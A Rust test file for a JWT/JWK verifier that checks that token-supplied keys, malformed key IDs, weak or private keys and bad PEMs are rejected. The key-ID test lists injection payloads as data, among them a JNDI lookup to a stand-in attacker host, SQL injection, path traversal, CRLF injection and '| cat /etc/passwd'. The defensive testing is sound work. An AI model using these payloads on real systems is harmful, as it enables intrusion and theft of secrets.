use super::{
    super::{KeyError, form::decode},
    *,
};

fn jwk(key: &SigningKey) -> Value {
    key.public_jwks()["keys"][0].clone()
}

fn set(keys: &[Value]) -> Result<KeySet, KeyError> {
    KeySet::from_jwks(&json!({ "keys": keys }).to_string())
}

fn with_set(keys: &[Value], token: &str) -> Result<Principal, TokenError> {
    let verifier = Verifier::new([Issuer::keys(ISSUER, set(keys).unwrap()).audience(API)]).unwrap();
    verifier.verify(token, now())
}

fn rsa_of(bits: usize) -> Value {
    let mut n = vec![0xab; bits / 8];
    n[0] = 0xc0;
    json!({ "kty": "RSA", "kid": "weak", "n": encode(n), "e": "AQAB" })
}

// SJ5, CVE-2018-0114 (embedded `jwk` trusted), CVE-2026-27962
#[test]
fn a_key_that_the_token_brings_is_never_used() {
    let attacker = SigningKey::generate(Algorithm::EdDSA).unwrap();
    let url = "https://attacker.example/jwks.json";
    let offers = [
        ("jwk", jwk(&attacker)),
        ("jku", json!(url)),
        ("x5u", json!(url)),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ];
    for (name, value) in offers {
        let ours = token(&with(header(&ED), name, value.clone()), &claims());
        assert!(verify(&ours).is_ok(), "{name} is not read");

        for head in [
            with(header(&ED), name, value.clone()),
            with(header(&attacker), name, value.clone()),
            with(without(header(&attacker), "kid"), name, value),
        ] {
            let forged = forge(&attacker, head.to_string(), claims().to_string());
            assert!(matches!(verify(&forged), Err(TokenError::Signature(_) | TokenError::KeyNotFound(_))), "{head}");
        }
    }
}

// SJ6
#[test]
fn a_key_id_is_compared_and_nothing_else() {
    let tried = |key_id: Value| verify(&token(&with(header(&ED), "kid", key_id), &claims()));
    assert!(tried(json!(ED.key_id())).is_ok());

    for key_id in [
        String::new(),
        "../../../../dev/null".to_owned(),
        "/dev/null".to_owned(),
        "' OR '1'='1".to_owned(),
        "x' UNION SELECT 'secret".to_owned(),
        "${jndi:ldap://attacker.example}".to_owned(),
        "{{7*7}}".to_owned(),
        "a\r\nSet-Cookie: x=y".to_owned(),
        "\0".to_owned(),
        "*".to_owned(),
        ".*".to_owned(),
        "| cat /etc/passwd".to_owned(),
        "https://attacker.example/key".to_owned(),
        ED.key_id().to_uppercase(),
        format!("{} ", ED.key_id()),
        ED.key_id()[1..].to_owned(),
        RSA.key_id().to_owned(),
        "k".repeat(256),
    ] {
        assert!(tried(json!(key_id)).is_err(), "{key_id:?}");
    }
    for key_id in [
        json!(1),
        json!(null),
        json!([ED.key_id()]),
        json!({ "kid": 1 }),
        json!("k".repeat(257)),
        json!("k".repeat(8_000)),
    ] {
        assert!(matches!(tried(key_id), Err(TokenError::Header(_))));
    }
    assert!(matches!(tried(json!("k".repeat(100_000))), Err(TokenError::Length(_))));
}

// SJ6, Z10
#[test]
fn without_a_key_id_exactly_one_key_must_fit() {
    let token = forge(&P256, without(header(&P256), "kid").to_string(), claims().to_string());
    let second = SigningKey::generate(Algorithm::ES256).unwrap();

    assert!(with_set(&[jwk(&P256), jwk(&ED), jwk(&P384)], &token).is_ok());

    assert!(matches!(with_set(&[jwk(&P256), jwk(&second)], &token), Err(TokenError::KeyNotFound(_))), "two");
    assert!(matches!(with_set(&[jwk(&ED), jwk(&P384)], &token), Err(TokenError::KeyNotFound(_))), "none");
    assert!(matches!(with_set(&[jwk(&second)], &token), Err(TokenError::Signature(_))), "another");
}

// SJ6
#[test]
fn a_key_without_an_id_is_not_meant_by_one() {
    let nameless = without(jwk(&ED), "kid");
    let unnamed = token(&without(header(&ED), "kid"), &claims());

    assert!(with_set(std::slice::from_ref(&nameless), &unnamed).is_ok());
    assert!(matches!(with_set(&[nameless], &good()), Err(TokenError::KeyNotFound(_))));
}

// SJ8
#[test]
fn keys_belong_to_their_issuer() {
    let theirs = SigningKey::generate(Algorithm::EdDSA).unwrap();
    let named = |key: &SigningKey| KeySet::new().with(key.verifying_key().key_id("same"));
    let verifier = Verifier::new([
        Issuer::keys("https://a.example", named(&ED)).audience(API),
        Issuer::keys("https://b.example", named(&theirs)).audience(API),
    ])
    .unwrap();
    let signed = |key: &SigningKey, iss: &str| {
        let head = with(header(key), "kid", "same");
        verifier.verify(&forge(key, head.to_string(), with(claims(), "iss", iss).to_string()), now())
    };

    assert_eq!(signed(&ED, "https://a.example").unwrap().issuer(), "https://a.example");
    assert_eq!(signed(&theirs, "https://b.example").unwrap().issuer(), "https://b.example");

    assert!(matches!(signed(&theirs, "https://a.example"), Err(TokenError::Signature(_))));
    assert!(matches!(signed(&ED, "https://b.example"), Err(TokenError::Signature(_))));
    assert!(matches!(signed(&ED, "https://c.example"), Err(TokenError::Issuer(_))));
}

// SJ19
#[test]
fn weak_keys_are_left_out() {
    assert!(set(&[rsa_of(2048)]).is_ok());
    assert!(set(&[rsa_of(8192)]).is_ok());
    assert!(set(&[with(rsa_of(2048), "e", "Aw")]).is_ok(), "exponent 3");

    let p = "7f".to_owned() + "ff".repeat(30).as_str() + "ed";
    let little = |hex: &str| {
        encode((0..32).map(|n| u8::from_str_radix(&hex[62 - 2 * n..64 - 2 * n], 16).unwrap()).collect::<Vec<u8>>())
    };
    let ed = |x: String| with(jwk(&ED), "x", x);
    let mut off_curve = decode(jwk(&P256)["x"].as_str().unwrap()).unwrap();
    off_curve[31] ^= 1;
    let short = encode(&decode(jwk(&P256)["x"].as_str().unwrap()).unwrap()[1..]);
    for (what, key) in [
        ("RSA of 512 bits", rsa_of(512)),
        ("RSA of 1024 bits", rsa_of(1024)),
        ("RSA of 2040 bits", rsa_of(2040)),
        (
            "RSA of 1024 bits with zeros in front",
            with(rsa_of(1024), "n", encode([vec![0; 128], vec![0xab; 128]].concat())),
        ),
        ("RSA of 16384 bits", rsa_of(16_384)),
        ("RSA with an even modulus", with(rsa_of(2048), "n", encode([vec![0xab; 255], vec![0xaa]].concat()))),
        ("exponent 1", with(rsa_of(2048), "e", "AQ")),
        ("exponent 0", with(rsa_of(2048), "e", "AA")),
        ("exponent missing", without(rsa_of(2048), "e")),
        ("exponent empty", with(rsa_of(2048), "e", "")),
        ("exponent even", with(rsa_of(2048), "e", "AQAA")),
        ("exponent of five bytes", with(rsa_of(2048), "e", "AQAAAAE")),
        ("exponent as the modulus", with(rsa_of(2048), "e", rsa_of(2048)["n"].clone())),
        ("off the curve", with(jwk(&P256), "x", encode(off_curve))),
        ("the point at infinity", with(with(jwk(&P256), "x", encode([0; 32])), "y", encode([0; 32]))),
        ("a short coordinate", with(jwk(&P256), "x", short)),
        ("coordinates of another curve", with(jwk(&P256), "crv", "P-384")),
        ("small order 0", ed(encode([0; 32]))),
        ("small order 1", ed(encode([vec![1], vec![0; 31]].concat()))),
        ("small order 1, other sign", ed(encode([vec![1], vec![0; 30], vec![0x80]].concat()))),
        ("small order -1", ed(little(&("7f".to_owned() + "ff".repeat(30).as_str() + "ec")))),
        ("the prime itself", ed(little(&p))),
        ("all bits", ed(encode([0xff; 32]))),
        ("small order 8", ed(little("05fc536d880238b13933c6d305acdfd5f098eff289f4c345b027b2c28f95e826"))),
        ("the other of order 8", ed(little("7a03ac9277fdc74ec6cc392cfa53202a0f67100d760b3cba4fd84d3d706a17c7"))),
        ("31 bytes", ed(encode([7; 31]))),
        ("33 bytes", ed(encode([7; 33]))),
    ] {
        let set = set(&[key, jwk(&P384)]).unwrap();
        assert_eq!((set.len(), set.skipped().len()), (1, 1), "{what}");
    }
}

// SJ19, SJ20, SJ2
#[test]
fn one_unusable_key_does_not_harm_the_others() {
    let good = good();
    assert!(with_set(&[jwk(&ED)], &good).is_ok());

    for (what, bad) in [
        ("null", json!(null)),
        ("text", json!("key")),
        ("empty", json!({})),
        ("no kty", without(jwk(&P256), "kty")),
        ("kty unknown", with(jwk(&P256), "kty", "AKP")),
        ("kty in lower case", with(jwk(&P256), "kty", "ec")),
        ("kty no text", with(jwk(&P256), "kty", 1)),
        ("oct", json!({ "kty": "oct", "kid": "s", "alg": "HS256", "k": encode([7; 32]) })),
        ("a secret in an EC key", with(jwk(&P256), "k", "AAAA")),
        ("crv unknown", with(jwk(&P256), "crv", "secp256k1")),
        ("P-521", with(jwk(&P256), "crv", "P-521")),
        ("Ed448", with(jwk(&P256), "crv", "Ed448")),
        ("X25519", json!({ "kty": "OKP", "crv": "X25519", "x": encode([9; 32]) })),
        ("alg of another kind", with(jwk(&P256), "alg", "RS256")),
        ("alg symmetric", with(jwk(&P256), "alg", "HS256")),
        ("alg none", with(jwk(&P256), "alg", "none")),
        ("alg no text", with(jwk(&P256), "alg", json!(["ES256"]))),
        ("alg null", with(jwk(&P256), "alg", Value::Null)),
        ("use enc", with(jwk(&P256), "use", "enc")),
        ("use null", with(jwk(&P256), "use", Value::Null)),
        ("use in upper case", with(jwk(&P256), "use", "SIG")),
        ("key_ops sign", with(jwk(&P256), "key_ops", json!(["sign"]))),
        ("key_ops empty", with(jwk(&P256), "key_ops", json!([]))),
        ("key_ops text", with(jwk(&P256), "key_ops", "verify")),
        ("key_ops mixed", with(jwk(&P256), "key_ops", json!(["verify", 1]))),
        ("kid a number", with(jwk(&P256), "kid", 7)),
        ("kid too long", with(jwk(&P256), "kid", "k".repeat(257))),
        ("x missing", without(jwk(&P256), "x")),
        ("x padded", with(jwk(&P256), "x", format!("{}=", jwk(&P256)["x"].as_str().unwrap()))),
        ("n no base64", with(rsa_of(2048), "n", "!!!")),
        ("n empty", with(rsa_of(2048), "n", "")),
    ] {
        let keys = [bad.clone(), jwk(&ED)];
        let loaded = set(&keys).unwrap();
        assert_eq!((loaded.len(), loaded.skipped().len()), (1, 1), "{what}");
        assert!(with_set(&keys, &good).is_ok(), "{what}");
        assert!(set(&[bad]).is_err(), "{what}: alone it is no set");
    }
}

// SJ20
#[test]
fn what_a_good_key_may_say() {
    for (name, value) in [
        ("use", json!("sig")),
        ("key_ops", json!(["verify"])),
        ("key_ops", json!(["sign", "verify"])),
        ("alg", json!("ES256")),
        ("x5c", json!(["MIIB"])),
        ("unknown", json!({})),
    ] {
        assert!(set(&[with(jwk(&P256), name, value.clone())]).is_ok(), "{name} {value}");
    }
}

#[test]
fn a_published_private_key_is_burnt() {
    assert!(set(&[jwk(&P256)]).is_ok());

    for name in ["d", "p", "q", "dp", "dq", "qi", "oth", "k"] {
        let set = set(&[with(jwk(&P256), name, "AAAA"), jwk(&ED)]).unwrap();
        assert!(matches!(set.skipped()[0].reason(), KeyError::Private(_)), "{name}");
    }
}

// SJ8, SJ20
#[test]
fn two_keys_of_one_id_are_none() {
    let twin = |key: &SigningKey| with(jwk(key), "kid", "same");
    let signed = token(&with(header(&ED), "kid", "same"), &claims());
    assert!(with_set(&[twin(&ED), jwk(&P256)], &signed).is_ok());

    for keys in [
        vec![twin(&ED), twin(&P384), jwk(&P256)],
        vec![twin(&P384), twin(&ED), jwk(&P256)],
        vec![twin(&ED), twin(&ED), jwk(&P256)],
        vec![twin(&P384), twin(&P384), twin(&ED), jwk(&P256)],
    ] {
        assert!(matches!(with_set(&keys, &signed), Err(TokenError::KeyNotFound(_))));
        assert_eq!(set(&keys).unwrap().len(), 1);
        assert_eq!(set(&keys).unwrap().skipped().len(), keys.len() - 1);
    }
    assert!(set(&[twin(&ED), twin(&P384)]).is_err());
}

#[test]
fn a_document_that_is_no_key_set_is_an_error() {
    assert!(KeySet::from_jwks(&ED.public_jwks().to_string()).is_ok());

    for text in [
        "",
        "null",
        "[]",
        "{}",
        r#"{"keys":{}}"#,
        r#"{"keys":null}"#,
        r#"{"keys":[]}"#,
        "<html></html>",
        r#"{"keys":[],"keys":[]}"#,
        "\u{feff}{}",
    ] {
        assert!(KeySet::from_jwks(text).is_err(), "{text}");
    }
    let single = jwk(&ED).to_string();
    assert!(KeySet::from_jwks(&single).is_err(), "a key is no set");
}

// CVE-2023-48223
#[test]
fn a_pem_is_one_public_key_and_nothing_else() {
    let pem = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=\n-----END PUBLIC KEY-----";
    assert!(VerifyingKey::ed_pem(pem).is_ok());
    assert!(VerifyingKey::ed_pem(&format!("{pem}\n")).is_ok());
    assert!(VerifyingKey::ed_pem(&pem.replace('\n', "\r\n")).is_ok());

    for bad in [
        String::new(),
        "/etc/ssl/key.pem".to_owned(),
        format!(" {pem}"),
        format!("comment\n{pem}"),
        format!("{pem}\n{pem}"),
        format!("{pem}\ntrailing"),
        pem.replace("PUBLIC", "PRIVATE"),
        pem.replace("PUBLIC KEY", "CERTIFICATE"),
        pem.replace("MCow", "MC!w"),
        pem.replace("MCow", "MCox"),
        pem.replace("ZuE=", "ZuE"),
        pem.replace("-----END PUBLIC KEY-----", ""),
        "-----BEGIN PUBLIC KEY-----\n-----END PUBLIC KEY-----".to_owned(),
        "-----BEGIN PUBLIC KEY-----".to_owned(),
    ] {
        assert!(VerifyingKey::ed_pem(&bad).is_err(), "{bad}");
    }
    assert!(VerifyingKey::rsa_pem(pem).is_err());
    assert!(VerifyingKey::ec_pem(pem).is_err());
}
